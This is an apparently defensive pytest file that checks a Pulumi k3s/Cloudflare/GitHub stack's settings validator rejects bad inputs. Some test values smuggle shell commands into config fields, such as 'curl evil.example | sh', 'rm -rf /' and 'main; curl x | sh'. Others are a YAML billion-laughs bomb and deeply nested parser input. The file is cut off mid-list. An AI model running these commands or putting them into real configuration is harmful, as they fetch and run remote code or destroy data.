"""Settings validation: every bad input is rejected with a message naming its key."""

from __future__ import annotations

import json
import re

import pulumi
import pytest
from conftest import DUMMY_SECRETS, stack_config

from components import versions
from components.settings import SettingsError, load_settings


def load(overrides: dict[str, str | None], secret_keys: list[str] | None = None):
    config = stack_config()
    for key, value in overrides.items():
        full = key if ":" in key else f"spitikos:{key}"  # another namespace's key is given whole
        if value is None:
            config.pop(full, None)
        else:
            config[full] = value
    pulumi.runtime.set_all_config(config, secret_keys if secret_keys is not None else list(DUMMY_SECRETS))
    return load_settings()


def test_pi5_stack_settings_are_valid_and_typed():
    s = load({})
    assert s.domain == "taehoonlee.cloud"
    assert s.zones == ("taehoonlee.cloud", "spitikos.dev")
    assert (s.server.host, s.server.user, s.server.port) == ("10.0.0.200", "ubuntu", 22)
    assert s.k3s_version == versions.K3S_VERSION
    assert versions.kubernetes_minor("v1.35.5+k3s1") == "1.35"
    assert s.kubernetes_minor == versions.kubernetes_minor(versions.K3S_VERSION)
    assert load({"k3sVersion": "v1.34.1+k3s2"}).kubernetes_minor == "1.34"
    assert load({"k3sVersion": "v1.30.0+k3s1"}).k3s_version == "v1.30.0+k3s1", "the oldest supported minor"
    assert s.agents == ()
    assert s.hostnames[:2] == ("taehoonlee.cloud", "spitikos.dev") and "*.taehoonlee.cloud" in s.hostnames
    assert (s.api_hostname, s.argocd_hostname) == ("api.taehoonlee.cloud", "argocd.taehoonlee.cloud")
    assert set(s.protected_hostnames) == {
        f"{h}.taehoonlee.cloud" for h in ("argocd", "grafana", "prometheus", "kube", "vault")
    }
    assert s.github.owner == "spitikos"
    assert s.github.repositories == ("spitikos", "api", "docs", "charts", "homepage")
    assert s.github.adopt_existing is True
    assert s.github.application_repositories == ("api", "homepage")
    assert (s.root.repository, s.root.path, s.root.revision) == ("charts", "charts/argocd", "main")
    assert s.allowed_admin_bindings == (
        ("ClusterRoleBinding/admin-user-view", "view"),
        ("ClusterRoleBinding/vault-server-binding", "system:auth-delegator"),
    )
    assert s.privileged_namespaces == ("monitoring",)
    assert s.app_namespaces == (
        ("api", ""),
        ("homepage", ""),
        ("vault", "cluster"),
        ("kubernetes-dashboard", "cluster"),
        ("monitoring", "operator"),
    )
    # Unset, with the settings that name pi5's other namespaces unset too.
    naming = ("routeNamespaces", "privilegedNamespaces", "scaleFromZeroNamespaces", "backupVolumes")
    unset = dict.fromkeys(("appNamespaces", "allowedAdminBindings", *naming))
    assert load(unset).app_namespaces == (("api", ""),), "the namespace the platform prepares"
    # Each hostname the real organization serves has its one namespace; the wildcard is shared.
    owners = dict(s.route_namespaces)
    assert set(owners) == set(s.hostnames) - {"*.taehoonlee.cloud"}
    assert (owners["argocd.taehoonlee.cloud"], owners["api.taehoonlee.cloud"]) == ("argocd", "api")
    assert owners["spitikos.dev"] == owners["taehoonlee.cloud"] == "homepage"
    assert load({"allowedAdminBindings": '["RoleBinding/vault/vault-admin=admin"]'}).allowed_admin_bindings == (
        ("RoleBinding/vault/vault-admin", "admin"),
    )


def test_agents_accept_host_user_port_and_name_forms():
    entries = ["10.0.0.201", "pi@10.0.0.202", "pi@node3.lan:2222", "pi4=ubuntu@[fd00::4]:22", "fd00::5"]
    # IPv6 as `ip -6 addr` or a router may print it: upper-case hex, a leading `::`.
    entries += ["pi@[FD00::6]:2222", "FD00::7", "::8"]
    s = load({"agents": json.dumps(entries)})
    assert [(a.key, a.host, a.user, a.port) for a in s.agents] == [
        ("10-0-0-201", "10.0.0.201", "ubuntu", 22),
        ("10-0-0-202", "10.0.0.202", "pi", 22),
        ("node3-lan", "node3.lan", "pi", 2222),
        ("pi4", "fd00::4", "ubuntu", 22),
        ("fd00-5", "fd00::5", "ubuntu", 22),
        ("fd00-6", "FD00::6", "pi", 2222),
        ("fd00-7", "FD00::7", "ubuntu", 22),
        ("8", "::8", "ubuntu", 22),
    ]


def test_settings_span_zones_with_wildcards_and_default_hostnames():
    s = load({"apiHostname": None, "argocdHostname": None})
    assert (s.api_hostname, s.argocd_hostname) == ("api.taehoonlee.cloud", "argocd.taehoonlee.cloud")
    moved = load(
        {
            "apiHostname": "grpc.spitikos.dev",
            "hostnames": json.dumps(["*.taehoonlee.cloud", "grpc.spitikos.dev"]),
            "protectedHostnames": "[]",
            "routeNamespaces": "[]",
        }
    )
    assert moved.api_hostname == "grpc.spitikos.dev"
    assert moved.argocd_hostname == "argocd.taehoonlee.cloud"  # covered by the wildcard


KUBECONFIG = DUMMY_SECRETS["spitikos:kubeconfig"]
OFF = {"cloudflare": "is set, but `cloudflare` is false", "github": "is set, but `github` is false"}
NO_NODE = "is set, but `kubeconfig` is set: the stack builds on that cluster and sets up no node"
# Parts switched off, on the pi5 stack's settings: each key set for an absent part is one line.
OWN_CLUSTER_BAD_INPUTS = [
    # A list in text, nested past Python's stack (json.loads raised RecursionError: a traceback).
    ("agents-nested-deep", {"agents": "[" * 100_000 + "]" * 100_000}, "spitikos:agents: is not a list"),
    ("node-host", {"kubeconfig": KUBECONFIG}, f"spitikos:nodeHost: {NO_NODE}"),
    ("ssh-key", {"kubeconfig": KUBECONFIG}, f"spitikos:sshPrivateKey: {NO_NODE}"),
    ("agents", {"kubeconfig": KUBECONFIG, "agents": '["10.0.0.201"]'}, f"spitikos:agents: {NO_NODE}"),
    ("ssh-hostname", {"kubeconfig": KUBECONFIG}, f"spitikos:sshHostname: {NO_NODE}"),
    ("own-kube-api-hostname", {"kubeconfig": KUBECONFIG}, f"spitikos:kubeApiHostname: {NO_NODE}"),
    ("own-etcd", {"kubeconfig": KUBECONFIG, "datastore": "etcd"}, f"spitikos:datastore: {NO_NODE}"),
    ("k3s-version", {"kubeconfig": KUBECONFIG, "k3sVersion": "v1.35.5+k3s1"}, f"spitikos:k3sVersion: {NO_NODE}"),
    ("not-yaml", {"kubeconfig": "{not: [yaml"}, "spitikos:kubeconfig: is not YAML"),
    (
        # A secret is input too, read with the stack file's bounds.
        "kubeconfig-billion-laughs",
        {
            "kubeconfig": "a: &a [x, x, x, x, x, x, x, x, x, x]\n"
            + "".join(
                f"{b}: &{b} [{', '.join([f'*{a}'] * 10)}]\n" for a, b in zip("abcdefghi", "bcdefghij", strict=True)
            )
        },
        "spitikos:kubeconfig: is not a kubeconfig: line 4: holds more than 10000 values once its aliases are expanded",
    ),
    (
        # libyaml's composer recursed once per level: this one crashed the interpreter.
        "kubeconfig-nested-deep",
        {"kubeconfig": "[" * 100_000 + "]" * 100_000},
        "spitikos:kubeconfig: is not a kubeconfig: line 1: values nested more than 64 deep",
    ),
    ("not-a-kubeconfig", {"kubeconfig": "clusters: []"}, "spitikos:kubeconfig: is not a kubeconfig"),
    (
        "no-current-context",
        {"kubeconfig": KUBECONFIG.replace("current-context: placeholder", "current-context: gone")},
        "spitikos:kubeconfig: has no `current-context` among its `contexts`",
    ),
    ("protected-hostnames", {"cloudflare": "false"}, f"spitikos:protectedHostnames: {OFF['cloudflare']}"),
    ("hostnames", {"cloudflare": "false"}, f"spitikos:hostnames: {OFF['cloudflare']}"),
    ("cf-ssh-hostname", {"cloudflare": "false"}, f"spitikos:sshHostname: {OFF['cloudflare']}"),
    ("kube-api-hostname", {"cloudflare": "false"}, f"spitikos:kubeApiHostname: {OFF['cloudflare']}"),
    ("backup-bucket", {"cloudflare": "false"}, f"spitikos:backupBucket: {OFF['cloudflare']}"),
    ("cloudflare-token", {"cloudflare": "false"}, f"spitikos:cloudflareApiToken: {OFF['cloudflare']}"),
    ("cloudflare-not-bool", {"cloudflare": "no"}, "spitikos:cloudflare: 'no' is not true or false"),
    ("github-token", {"github": "false"}, f"spitikos:githubToken: {OFF['github']}"),
    ("github-owner", {"github": "false"}, f"spitikos:githubOwner: {OFF['github']}"),
    ("root-repository", {"github": "false"}, f"spitikos:rootRepository: {OFF['github']}"),
    (
        "root-without-github-or-url",
        {"github": "false"},
        "spitikos:rootRepositoryUrl: is required with `github: false`: the Git URL (https) of the root Application",
    ),
    (
        "root-url-with-github",
        {"rootRepositoryUrl": "https://example.com/r.git"},
        "spitikos:rootRepositoryUrl: is for stacks with `github: false`; with GitHub, `rootRepository` names the root",
    ),
    (
        "root-url-over-ssh",
        {"github": "false", "rootRepositoryUrl": "git@github.com:o/r.git"},
        "spitikos:rootRepositoryUrl: 'git@github.com:o/r.git' is not an https Git URL",
    ),
    (
        "root-url-with-credentials",
        {"github": "false", "rootRepositoryUrl": "https://x:ghp_0123456789abcdef@github.com/o/r.git"},
        "spitikos:rootRepositoryUrl: holds credentials",
    ),
    (
        "app-url-over-ssh",
        {"appRepositoryUrls": '["git@github.com:o/*"]'},
        "spitikos:appRepositoryUrls: 'git@github.com:o/x' is not an https Git URL",
    ),
    (
        "app-url-over-http",
        {"appRepositoryUrls": '["http://github.com/o/*"]'},
        "spitikos:appRepositoryUrls: 'http://github.com/o/x' is not an https Git URL",
    ),
    (
        "app-url-with-a-token",
        {"appRepositoryUrls": '["https://ghp_0123456789abcdef@github.com/o/*"]'},
        "spitikos:appRepositoryUrls: holds credentials; give a public repository's URL "
        "(nothing in config may carry a secret in plain text)",
    ),
    (
        "app-url-with-a-space",
        {"appRepositoryUrls": '["https://github.com/o/my app.git"]'},
        "spitikos:appRepositoryUrls: 'https://github.com/o/my app.git' is not an https Git URL",
    ),
]

BAD_INPUTS = [
    ("domain-not-a-domain", {"domain": "not_a_domain"}, "spitikos:domain: 'not_a_domain' is not a domain name"),
    ("domain-missing", {"domain": None}, "spitikos:domain: is required but not set"),
    ("domain-without-tld", {"domain": "spitikos"}, "spitikos:domain: 'spitikos' is not a domain name"),
    ("node-host-garbage", {"nodeHost": "pi 5!"}, "spitikos:nodeHost: 'pi 5!' is neither an IP address nor a hostname"),
    ("node-host-bad-ip", {"nodeHost": "10.0.0.300"}, "spitikos:nodeHost: '10.0.0.300' is neither"),
    ("node-host-missing", {"nodeHost": None}, "spitikos:nodeHost: is required but not set"),
    ("node-user", {"nodeUser": "Root User"}, "spitikos:nodeUser: 'Root User' is not a valid Linux user name"),
    ("ssh-port-range", {"nodeSshPort": "70000"}, "spitikos:nodeSshPort: 70000 is out of range (1 to 65535)"),
    ("ssh-port-text", {"nodeSshPort": "ssh"}, "spitikos:nodeSshPort: 'ssh' is not a whole number"),
    ("host-key", {"nodeHostKey": "AAAA"}, "spitikos:nodeHostKey: is not an SSH public host key line"),
    ("k3s-version-no-suffix", {"k3sVersion": "v1.35.5"}, "spitikos:k3sVersion: 'v1.35.5' is not a k3s release tag"),
    ("k3s-version-latest", {"k3sVersion": "latest"}, "spitikos:k3sVersion: 'latest' is not a k3s release tag"),
    (
        "k3s-version-trailing-text",
        {"k3sVersion": "v1.35.5+k3s1-rc1"},
        "spitikos:k3sVersion: 'v1.35.5+k3s1-rc1' is not a k3s release tag",
    ),
    (
        "k3s-version-second-line",
        {"k3sVersion": "v1.35.5+k3s1\ncurl evil.example | sh"},
        "spitikos:k3sVersion: 'v1.35.5+k3s1\\ncurl evil.example | sh' is not a k3s release tag",
    ),
    ("k3s-version-old", {"k3sVersion": "v1.27.1+k3s1"}, "spitikos:k3sVersion: 'v1.27.1+k3s1' is older than v1.30"),
    ("k3s-version-29", {"k3sVersion": "v1.29.9+k3s1"}, "spitikos:k3sVersion: 'v1.29.9+k3s1' is older than v1.30"),
    ("ssh-key-missing", {"sshPrivateKey": None}, "spitikos:sshPrivateKey: is required but not set"),
    (
        "ssh-key-not-a-key",
        {"sshPrivateKey": "ssh-ed25519 AAAAC3Nza public"},
        "spitikos:sshPrivateKey: is not a PEM/OpenSSH private key",
    ),
    (
        "ssh-key-truncated",
        {"sshPrivateKey": "-----BEGIN OPENSSH PRIVATE KEY-----\nabc"},
        "spitikos:sshPrivateKey: is a truncated private key (no '-----END ... PRIVATE KEY-----' line)",
    ),
    (
        "ssh-key-a-public-pem",
        {"sshPrivateKey": "-----BEGIN PUBLIC KEY-----\nMCowBQYDK2VwAyEA\n-----END PUBLIC KEY-----"},
        "spitikos:sshPrivateKey: is not a PEM/OpenSSH private key",
    ),
    (
        "duplicate-hostnames",
        {
            "hostnames": json.dumps(["api.taehoonlee.cloud", "argocd.taehoonlee.cloud", "api.taehoonlee.cloud"]),
            "protectedHostnames": "[]",
        },
        "spitikos:hostnames: 'api.taehoonlee.cloud' is listed twice",
    ),
    (
        "hostname-outside-zones",
        {"hostnames": json.dumps(["api.taehoonlee.cloud", "argocd.taehoonlee.cloud", "docs.example.com"])},
        "spitikos:hostnames: 'docs.example.com' is in none of the zones taehoonlee.cloud, spitikos.dev",
    ),
    (
        "hostnames-missing-argocd",
        {
            "hostnames": json.dumps(["taehoonlee.cloud", "api.taehoonlee.cloud", "argcd.taehoonlee.cloud"]),
            "protectedHostnames": "[]",
        },
        "spitikos:hostnames: must include 'argocd.taehoonlee.cloud', the `argocdHostname` "
        "(is 'argcd.taehoonlee.cloud' a typo of it?)",
    ),
    (
        "hostnames-api-outside-the-wildcard",
        {"hostnames": json.dumps(["*.spitikos.dev", "argocd.taehoonlee.cloud"]), "protectedHostnames": "[]"},
        "spitikos:hostnames: must include 'api.taehoonlee.cloud', the `apiHostname`",
    ),
    (
        "hostnames-missing-api",
        {"hostnames": json.dumps(["argocd.taehoonlee.cloud"]), "protectedHostnames": "[]"},
        "spitikos:hostnames: must include 'api.taehoonlee.cloud', the `apiHostname`",
    ),
    (
        "wildcard-two-labels",
        {"hostnames": json.dumps(["*.*.taehoonlee.cloud", "*.taehoonlee.cloud"]), "protectedHostnames": "[]"},
        "spitikos:hostnames: '*.*.taehoonlee.cloud' is not a hostname",
    ),
    (
        "hostnames-not-a-list",
        {"hostnames": "api.spitikos.dev"},
        "spitikos:hostnames: is not a list (set it with `pulumi config set --path`, or as a YAML list)",
    ),
    ("list-of-numbers", {"privilegedNamespaces": "[1]"}, "spitikos:privilegedNamespaces: must be a list of strings"),
    (
        "ssh-key-blank",
        {"sshPrivateKey": " "},
        "spitikos:sshPrivateKey: is required but not set: `pulumi config set --secret sshPrivateKey ...`",
    ),
    (
        "zones-missing-domain",
        {"zones": '["spitikos.dev"]'},
        "spitikos:zones: must include the domain 'taehoonlee.cloud'",
    ),
    (
        "zones-not-a-domain",
        {"zones": '["taehoonlee.cloud", "localhost"]'},
        "spitikos:zones: 'localhost' is not a domain name",
    ),
    (
        "protected-not-a-hostname",
        {"protectedHostnames": '["grafana.spitikos.dev"]'},
        "spitikos:protectedHostnames: 'grafana.spitikos.dev' is not one of `hostnames`",
    ),
    (
        "ssh-hostname-duplicates-public",
        {"sshHostname": "api.taehoonlee.cloud"},
        "spitikos:sshHostname: 'api.taehoonlee.cloud' is listed twice",
    ),
    (
        "protected-without-access",
        {"accessEmails": "[]"},
        "spitikos:accessEmails: is required when protectedHostnames, sshHostname or kubeApiHostname is set",
    ),
    ("access-email", {"accessEmails": '["not-an-email"]'}, "spitikos:accessEmails: 'not-an-email' is not an email"),
    # The Access-only hostnames are checked as `hostnames` are, each problem under its own key.
    (
        "ssh-hostname-not-a-hostname",
        {"sshHostname": "ssh_pi.taehoonlee.cloud"},
        "spitikos:sshHostname: 'ssh_pi.taehoonlee.cloud' is not a hostname",
    ),
    (
        "kube-api-hostname-outside-zones",
        {"kubeApiHostname": "k8s.example.com"},
        "spitikos:kubeApiHostname: 'k8s.example.com' is in none of the zones taehoonlee.cloud, spitikos.dev",
    ),
    (
        "ssh-without-access",
        {"accessEmails": "[]", "protectedHostnames": "[]", "kubeApiHostname": ""},
        "spitikos:accessEmails: is required when protectedHostnames, sshHostname or kubeApiHostname is set: "
        "those hostnames are only ever published behind Cloudflare Access",
    ),
    (
        "protected-only-without-access",
        {"accessEmails": "[]", "sshHostname": "", "kubeApiHostname": ""},
        "spitikos:accessEmails: is required when",
    ),
    (
        "zone-twice",
        {"zones": '["taehoonlee.cloud", "spitikos.dev", "spitikos.dev"]'},
        "spitikos:zones: 'spitikos.dev' is listed twice",
    ),
    (
        "cloudflare-account-id",
        {"cloudflareAccountId": "not-hex"},
        "spitikos:cloudflareAccountId: is not a Cloudflare account id (32 hexadecimal characters)",
    ),
    ("cloudflare-token-short", {"cloudflareApiToken": "short"}, "spitikos:cloudflareApiToken: is too short"),
    ("gha-pat-short", {"ghaPat": "short"}, "spitikos:ghaPat: is too short to be an API token"),
    (
        "repository-name",
        {"repositories": '["spitikos", "api", "docs", "charts", "a b"]'},
        "spitikos:repositories: 'a b' is not a GitHub repository name",
    ),
    ("agent-duplicate-of-server", {"agents": '["10.0.0.200"]'}, "spitikos:agents: '10.0.0.200' is listed twice"),
    ("agent-twice", {"agents": '["a=10.0.0.201", "b=10.0.0.201"]'}, "spitikos:agents: '10.0.0.201' is listed twice"),
    # The first server's node name is `server` (its resources are named after it): an agent may not take it.
    (
        "agent-named-server",
        {"agents": '["server=10.0.0.201"]'},
        "spitikos:agents: the node name 'server' is used twice",
    ),
    ("agent-bad-host", {"agents": '["pi@@x"]'}, "spitikos:agents: 'pi@@x' is not host, user@host, user@host:port"),
    ("agent-newline", {"agents": '["10.0.0.201\\nrm -rf /"]'}, "spitikos:agents: '10.0.0.201\\nrm -rf /' is neither"),
    (
        "agent-same-name",
        {"agents": '["a=10.0.0.201", "a=10.0.0.202"]'},
        "spitikos:agents: the node name 'a' is used twice",
    ),
    ("node-host-newline", {"nodeHost": "10.0.0.200\nevil"}, "spitikos:nodeHost: '10.0.0.200\\nevil' is neither"),
    ("node-host-zone-index", {"nodeHost": "fe80::1%eth0"}, "spitikos:nodeHost: 'fe80::1%eth0' is neither"),
    ("root-repository", {"rootRepository": "infra"}, "spitikos:rootRepository: 'infra' is not one of `repositories`"),
    ("root-path", {"rootPath": "../etc"}, "spitikos:rootPath: '../etc' is not a folder path"),
    (
        "root-revision",
        {"rootRevision": "main; curl x | sh"},
        "spitikos:rootRevision: 'main; curl x | sh' is not a branch, tag or commit",
    ),
    (
        "rotated-at",
        {"argocdAdminPasswordRotatedAt": "yesterday"},
        "spitikos:argocdAdminPasswordRotatedAt: 'yesterday' is not a UTC time",
    ),
    (
        "unknown-key",
        {"nodehost": "10.0.0.200"},
        "spitikos:nodehost: is not a setting of this stack: did you mean 'nodeHost'?",
    ),
    ("stale-zone-id", {"cloudflareZoneId": "f" * 32}, "spitikos:cloudflareZoneId: is not a setting of this stack"),
    ("cloudflare-account-missing", {"cloudflareAccountId": None}, "spitikos:cloudflareAccountId: is required"),
    ("cloudflare-token-missing", {"cloudflareApiToken": None}, "spitikos:cloudflareApiToken: is required but not set"),
    ("github-owner", {"githubOwner": "-bad-"}, "spitikos:githubOwner: '-bad-' is not a GitHub user or organization"),
    (
        "github-token-whitespace",
        {"githubToken": "ghp_ abc def ghi jkl mno pqr"},
        "spitikos:githubToken: contains white space",
    ),
    (
        "repositories-missing-charts",
        {"repositories": '["spitikos", "api", "docs"]'},
        "spitikos:repositories: must include 'charts'",
    ),
    (
        "repositories-duplicate",
        {"repositories": '["spitikos", "api", "docs", "charts", "api"]'},
        "spitikos:repositories: 'api' is listed twice",
    ),
    ("visibility", {"repositoryVisibility": "internal"}, "spitikos:repositoryVisibility: 'internal' is not"),
    ("required-reviews", {"requiredReviews": "9"}, "spitikos:requiredReviews: 9 is out of range (0 to 6)"),
    (
        "adopt-not-bool",
        {"adoptExistingRepositories": "yes"},
        "spitikos:adoptExistingRepositories: 'yes' is not true or false",
    ),
    ("gha-pat-missing", {"ghaPat": None}, "spitikos:ghaPat: is required but not set"),
    (
        "agent-port-too-high",
        {"agents": '["pi2=10.0.0.201:99999"]'},
        "spitikos:agents: the port of 'pi2=10.0.0.201:99999' is out of range (1 to 65535)",
    ),
    ("agent-port-zero", {"agents": '["10.0.0.201:0"]'}, "spitikos:agents: the port of '10.0.0.201:0' is out of range"),
    ("agent-port-one-over", {"agents": '["10.0.0.201:65536"]'}, "spitikos:agents: the port of '10.0.0.201:65536' is"),
    ("agent-bad-user", {"agents": '["Pi!@10.0.0.201"]'}, "spitikos:agents: 'Pi!' is not a valid user name"),
    (
        "agent-bad-name",
        {"agents": '["Pi4=10.0.0.201"]'},
        "spitikos:agents: 'Pi4' is not a node name (lower-case letters, digits and '-', at most 32)",
    ),
    # Host names are lower case (as every hostname setting is): nothing is cut off to make one fit.
    ("agent-upper-case-host", {"agents": '["Xpi"]'}, "spitikos:agents: 'Xpi' is neither an IP address nor a hostname"),
    (
        "provider-token-in-plain-text",
        {"cloudflare:apiToken": "x" * 40},
        "cloudflare:apiToken: is not read: the program makes its cloudflare provider from "
        "`spitikos:cloudflareApiToken`; remove it from the stack file (and revoke it if it is a token in plain text)",
    ),
    ("provider-github-owner", {"github:owner": "spitikos"}, "github:owner: is not read: the program makes its github"),
    ("provider-kubeconfig", {"kubernetes:kubeconfig": "~/.kube/config"}, "kubernetes:kubeconfig: is not read"),
    (
        "root-in-a-created-repository",
        {"adoptExistingRepositories": "false"},
        "spitikos:rootRepository: 'charts/argocd' of 'charts' will not exist: with adoptExistingRepositories false "
        "the repositories are created empty, and only 'argocd/apps' of 'spitikos' is seeded; "
        "use that (the defaults), or adopt repositories that hold it",
    ),
    (
        "root-elsewhere-in-the-seeded-repository",
        {"adoptExistingRepositories": "false", "rootRepository": "spitikos", "rootPath": "apps"},
        "spitikos:rootPath: 'apps' of 'spitikos' will not exist",
    ),
    ("node-memory-unit", {"nodeMemory": "4GB"}, "spitikos:nodeMemory: '4GB' is not a memory quantity like '4Gi'"),
    ("node-memory-small", {"nodeMemory": "2Gi"}, "spitikos:nodeMemory: '2Gi' is out of range (3Gi to 16Gi"),
    (
        "rotated-at-a-bare-date",
        {"argocdAdminPasswordRotatedAt": "2027-01-15"},
        "spitikos:argocdAdminPasswordRotatedAt: '2027-01-15' is not a UTC time like '2026-12-01T09:30:00Z'",
    ),
    (
        "admin-binding-without-kind",
        {"allowedAdminBindings": '["admin-user-binding=cluster-admin"]'},
        "spitikos:allowedAdminBindings: 'admin-user-binding=cluster-admin' is not "
        "'ClusterRoleBinding/<name>=<ClusterRole>' or 'RoleBinding/<namespace>/<name>=<ClusterRole>'",
    ),
    (
        # The old form trusted a binding's name whatever role it named.
        "admin-binding-without-role",
        {"allowedAdminBindings": '["ClusterRoleBinding/vault-server-binding"]'},
        "spitikos:allowedAdminBindings: 'ClusterRoleBinding/vault-server-binding' names no role: write "
        "'ClusterRoleBinding/vault-server-binding=<ClusterRole>'",
    ),
    (
        "admin-binding-empty-role",
        {"allowedAdminBindings": '["ClusterRoleBinding/a="]'},
        "spitikos:allowedAdminBindings: 'ClusterRoleBinding/a=' is not",
    ),
    (
        "admin-rolebinding-without-namespace",
        {"allowedAdminBindings": '["RoleBinding/admin=admin"]'},
        "spitikos:allowedAdminBindings: 'RoleBinding/admin=admin' is not",
    ),
    (
        "admin-binding-quote",
        {"allowedAdminBindings": json.dumps(["ClusterRoleBinding/x=a' || true"])},
        'spitikos:allowedAdminBindings: "ClusterRoleBinding/x=a\' || true" is not',
    ),
    (
        "privileged-namespace",
        {"privilegedNamespaces": '["Monitoring"]'},
        "spitikos:privilegedNamespaces: 'Monitoring' is not a namespace name",
    ),
    (
        "privileged-namespace-twice",
        {"privilegedNamespaces": '["monitoring", "monitoring"]'},
        "spitikos:privilegedNamespaces: 'monitoring' is listed twice",
    ),
    (
        "app-namespace",
        {"appNamespaces": '["Homepage"]'},
        "spitikos:appNamespaces: 'Homepage' is not '<namespace>' or '<namespace>=<reach>': a namespace name is 1 to 63 "
        "lower-case letters, digits and '-', not starting or ending with '-'",
    ),
    (
        # Its deployer would hold an app's rights next to Argo CD, Redis or k3s.
        "app-namespace-platform",
        {"appNamespaces": '["argocd"]'},
        "spitikos:appNamespaces: 'argocd' is a namespace of the platform's: list application namespaces only",
    ),
    (
        "app-namespace-platform-glob",
        {"appNamespaces": '["kube-system=cluster"]'},
        "spitikos:appNamespaces: 'kube-system' is a namespace of the platform's",
    ),
    (
        "app-namespace-reach",
        {"appNamespaces": '["monitoring=admin"]'},
        "spitikos:appNamespaces: 'monitoring=admin': the reach is 'cluster' or 'operator' (docs/settings.md), "
        "not 'admin'",
    ),
    (
        "app-namespace-twice",
        {"appNamespaces": '["vault", "vault=cluster"]'},
        "spitikos:appNamespaces: 'vault' is listed twice",
    ),
    ("app-namespace-empty-entry", {"appNamespaces": '["api", ""]'}, "spitikos:appNamespaces: has an empty entry"),
    (
        # 3,000 took the plan past 20 s without a word; the check itself is linear.
        "app-namespaces-too-many",
        {"appNamespaces": json.dumps(["api", *(f"app{n}" for n in range(3000))])},
        "spitikos:appNamespaces: lists 3001 namespaces, more than 100: each is a namespace, a deployer",
    ),
    ("app-namespace-64", {"appNamespaces": json.dumps(["a" * 64])}, f"spitikos:appNamespaces: '{'a' * 64}' is not"),
    ("app-namespace-trailing-dash", {"appNamespaces": '["api-"]'}, "spitikos:appNamespaces: 'api-' is not"),
    (
        "app-namespace-spaced-reach",
        {"appNamespaces": '["vault = cluster"]'},
        "spitikos:appNamespaces: 'vault = cluster'",
    ),
    ("app-namespace-empty-reach", {"appNamespaces": '["api="]'}, "spitikos:appNamespaces: 'api=': the reach is"),
    (
        # The API server's `kubernetes` Service lives there: no app's deployer writes Services next to it.
        "app-namespace-default",
        {"appNamespaces": '["default"]'},
        "spitikos:appNamespaces: 'default' holds the API server's own `kubernetes` Service",
    ),
    *[
        (
            f"app-namespaces-yaml-{kind}",
            {"appNamespaces": raw},
            f"spitikos:appNamespaces: must be a list of strings (one `- item` a line), not {said}",
        )
        for kind, raw, said in [
            ("map", '{"api": "cluster"}', "a map (`key: value`)"),
            ("number", "5", "a number"),
            ("null", "null", "null (an empty value)"),
            ("nested", '[["api"]]', "a list of lists"),
            ("string", '"api"', "one string: write it as a list of one"),
            ("empty-item", '["api", null]', "a list with an empty item: remove it"),
            ("number-item", '["api", 5]', "a list holding a number: quote each item"),
        ]
    ],
    (
        # Each namespace another setting names must be one a deployer writes to.
        "route-namespace-not-an-app",
        {"routeNamespaces": '["nowhere/vault.taehoonlee.cloud"]'},
        "spitikos:routeNamespaces: 'nowhere/vault.taehoonlee.cloud': 'nowhere' is not one of `appNamespaces`: add it",
    ),
    (
        "route-namespace-platform",
        {"routeNamespaces": '["redis/vault.taehoonlee.cloud"]'},
        "spitikos:routeNamespaces: 'redis/vault.taehoonlee.cloud': 'redis' is not one of `appNamespaces`",
    ),
    (
        "app-namespaces-without-the-api",
        {"appNamespaces": '["homepage", "vault=cluster", "kubernetes-dashboard=cluster", "monitoring=operator"]'},
        "spitikos:appNamespaces: lacks 'api', where the api's hostname 'api.taehoonlee.cloud' is routed: add 'api'",
    ),
    (
        "scale-from-zero-not-an-app",
        {"scaleFromZeroNamespaces": '["nowhere"]'},
        "spitikos:scaleFromZeroNamespaces: 'nowhere' is not one of `appNamespaces`",
    ),
    (
        "privileged-not-an-app",
        {"privilegedNamespaces": '["homepage", "nowhere"]'},
        "spitikos:privilegedNamespaces: 'nowhere' is not one of `appNamespaces`",
    ),
    (
        "privileged-platform",
        {"privilegedNamespaces": '["argocd"]'},
        "spitikos:privilegedNamespaces: 'argocd' is not one of `appNamespaces`",
    ),
    (
        "backup-volume-not-an-app",
        {"backupVolumes": '["nowhere/data"]'},
        "spitikos:backupVolumes: 'nowhere/data': 'nowhere' is not one of `appNamespaces`",
    ),
    (
        "admin-binding-not-an-app",
        {"allowedAdminBindings": '["RoleBinding/nowhere/x=admin"]'},
        "spitikos:allowedAdminBindings: 'RoleBinding/nowhere/x=admin': 'nowhere' is not one of `appNamespaces`",
    ),
    (
        "admin-binding-platform",
        {"allowedAdminBindings": '["RoleBinding/argocd/x=admin"]'},
        "spitikos:allowedAdminBindings: 'RoleBinding/argocd/x=admin': 'argocd' is not one of `appNamespaces`",
    ),
    (
        # RBAC lets only a holder of `bind` on the role make the binding: the deployers that reach the cluster.
        "admin-binding-namespace-without-bind",
        {"allowedAdminBindings": '["RoleBinding/homepage/x=admin"]'},
        "spitikos:allowedAdminBindings: 'RoleBinding/homepage/x=admin': only a deployer that reaches the cluster "
        "holds `bind`: list 'homepage' as 'homepage=cluster'",
    ),
    (
        "admin-binding-nothing-reaches",
        {"appNamespaces": '["api", "homepage", "vault", "kubernetes-dashboard", "monitoring"]'},
        "spitikos:allowedAdminBindings: 'ClusterRoleBinding/admin-user-view=view': no `appNamespaces` entry "
        "reaches the cluster",
    ),
    (
        "scale-from-zero-namespace",
        {"scaleFromZeroNamespaces": '["Homepage"]'},
        "spitikos:scaleFromZeroNamespaces: 'Homepage' is not a namespace name",
    ),
    (
        # The interceptor would then forward the public's requests into Redis' or Argo CD's namespace.
        "scale-from-zero-platform-namespace",
        {"scaleFromZeroNamespaces": '["redis"]'},
        "spitikos:scaleFromZeroNamespaces: 'redis' is a namespace of the platform's",
    ),
    (
        "scale-from-zero-twice",
        {"scaleFromZeroNamespaces": '["api", "api"]'},
        "spitikos:scaleFromZeroNamespaces: 'api' is listed twice",
    ),
    (
        "admin-binding-twice",
        {"allowedAdminBindings": '["ClusterRoleBinding/a=edit", "ClusterRoleBinding/a=view"]'},
        "spitikos:allowedAdminBindings: 'ClusterRoleBinding/a' is listed twice",
    ),
    (
        "too-many-listeners",
        {"hostnames": json.dumps([f"h{i}.taehoonlee.cloud" for i in range(63)] + ["api.taehoonlee.cloud"])},
        "spitikos:hostnames: lists more than 64: the Gateway has one listener per hostname, at most 64",
    ),
    (
        "route-namespace-not-routed",
        {"routeNamespaces": '["vault/vault.spitikos.dev"]'},
        "spitikos:routeNamespaces: 'vault.spitikos.dev' is not one of `hostnames`",
    ),
    (
        "route-namespace-malformed",
        {"routeNamespaces": '["vault.taehoonlee.cloud"]'},
        "spitikos:routeNamespaces: 'vault.taehoonlee.cloud' is not '<namespace>/<hostname>'",
    ),
    (
        "route-namespace-argocd",
